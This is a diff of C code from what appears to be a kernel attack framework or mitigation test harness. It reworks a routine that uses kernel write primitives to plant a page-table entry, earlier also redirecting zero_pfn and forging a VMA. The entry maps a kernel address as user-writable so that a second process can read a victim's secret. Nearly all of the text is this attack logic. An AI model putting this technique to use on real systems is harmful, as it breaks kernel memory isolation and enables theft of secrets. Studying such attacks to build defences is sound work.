@@ -3,17 +3,13 @@
  * Entries of the kernel's tables may say that user space has a page, as the entries above
  * say no. They say yes. So a page at a kernel address is there for all processes.
  */
-#include <setjmp.h>
-#include <signal.h>
-#include <stdio.h>
 #include <string.h>
-#include <sys/mman.h>
-#include <sys/uio.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
 #include "addresses.h"
 #include "attack.h"
+#include "changer.h"
 #include "chunk.h"
 #include "list.h"
 #include "objects.h"
@@ -22,71 +18,40 @@
 #define LIKE_PART	0x5b
 #define HOLE		(10UL << 40)
 
-static sigjmp_buf out;
-
-static void on_fault(int signal)
+/* Another process, that has done nothing, and looks when it is told to. */
+static pid_t start_other(uint64_t at, int *tell)
 {
-	siglongjmp(out, signal);
-}
+	int fds[2];
+	pid_t pid = pipe(fds) ? -1 : fork();
+	char go;
 
-static bool lead_address_to(volatile char *like, uint64_t at, uint64_t phys, uint64_t prot)
-{
-	uint64_t zero = ksymbol("zero_pfn"), old = kread64(zero), vma, entry;
-	char byte;
-	struct iovec to = { &byte, 1 }, from = { (void *)at, 1 };
-	struct task task;
-	struct slot slot;
-
-	if (!zero || ktask(0, &task))
-		return false;
-	entry = find_empty_entry(task.mm, at);
-	vma = forge_vma(like, at, prot);
-	if (!entry || !vma)
-		return false;
-	kwrite64(entry, vma);
-	kwrite64(zero, phys / PAGE_SIZE);
-	process_vm_readv(getpid(), &to, 1, &from, 1, 0);
-	kwrite64(zero, old);
-	kwrite64(entry, 0);
-	return !kwalk(at, LEAF, 0, &slot) && slot.value && (slot.phys & -PAGE_SIZE) == phys;
+	*tell = fds[1];
+	if (!pid)
+		_exit(read(fds[0], &go, 1) != 1 || !can_read((void *)at));
+	return pid;
 }
 
 enum outcome kernel_user(void)
 {
-	uint64_t at = vmalloc_base() + HOLE, phys = victim_phys() & -PAGE_SIZE;
+	uint64_t at = vmalloc_base() + HOLE, secret = at + victim_phys() % PAGE_SIZE;
 	volatile char *like;
 	char text[SECRET_SIZE] = "";
-	struct slot slot;
-	int fds[2], status;
+	int tell, status;
 	pid_t pid;
 
 	stay_on_cpu(0);
-	pid = pipe(fds) ? -1 : fork();
-	if (!pid) {
-		/* Another process, that did nothing. */
-		(void)!read(fds[0], text, 1);
-		signal(SIGSEGV, on_fault);
-		signal(SIGBUS, on_fault);
-		if (sigsetjmp(out, 1))
-			_exit(1);
-		_exit(*(volatile char *)(at + victim_phys() % PAGE_SIZE) ? 0 : 2);
-	}
+	pid = start_other(secret, &tell);
 	like = map_small_pages(LIKE_PART, PAGE_SIZE);
-	if (!like)
-		return broken("no page");
+	if (pid < 0 || !like)
+		return broken("no process or no page");
 	like[0] = 1;
-	if (!lead_address_to(like, at, phys, PTE_USER_RW))
+	if (!map_address(like, at, victim_phys() & -PAGE_SIZE, PTE_USER_RW))
 		return lost("the address does not lead there");
-	kwalk(at, LEAF, 0, &slot);
-	(void)!write(fds[1], "", 1);
+	(void)!write(tell, "", 1);
 	waitpid(pid, &status, 0);
-	signal(SIGSEGV, on_fault);
-	signal(SIGBUS, on_fault);
-	if (!sigsetjmp(out, 1))
-		memcpy(text, (void *)(at + victim_phys() % PAGE_SIZE), sizeof(text) - 1);
-	fprintf(stderr, "entry %lx, other process %d\n", slot.value, WEXITSTATUS(status));
-	if (WEXITSTATUS(status))
-		return lost("another process does not read it (entry 0x%lx)", slot.value);
+	if (status || !can_read((void *)secret))
+		return lost("another process does not read it");
+	memcpy(text, (void *)secret, sizeof(text) - 1);
 	return judge_secret(text, 0);
 }
 #else
